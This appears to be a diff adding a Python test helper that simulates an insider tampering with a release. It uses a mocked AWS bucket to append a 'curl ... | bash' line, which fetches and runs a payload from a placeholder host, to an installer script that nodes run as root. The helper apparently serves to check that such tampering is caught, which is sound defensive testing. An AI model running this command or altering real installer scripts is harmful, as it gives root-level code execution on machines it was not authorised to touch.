@@ -1,0 +1,19 @@
+"""What somebody with rights to the evidence bucket could do to a release before users are on it."""
+
+from changeover.installer import folder_of
+from rehearsal.stage import CANDIDATE, Stage
+
+_COMMAND = b"\ncurl --silent https://example.org/payload | bash\n"
+
+
+def tamper_with_installer(stage: Stage) -> str:
+    """Add a command to a script that the candidate's nodes run as root; answers its key.
+
+    The bucket's policy refuses such a write on AWS; moto does not look at its conditions.
+    """
+    s3, bucket = stage.aws.client("s3"), stage.outputs["EvidenceBucketName"]
+    listed = s3.list_objects_v2(Bucket=bucket, Prefix=f"{folder_of(CANDIDATE)}/")["Contents"]
+    key = min(each["Key"] for each in listed if each["Key"].endswith(".sh"))
+    script = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
+    s3.put_object(Bucket=bucket, Key=key, Body=script + _COMMAND)
+    return str(key)
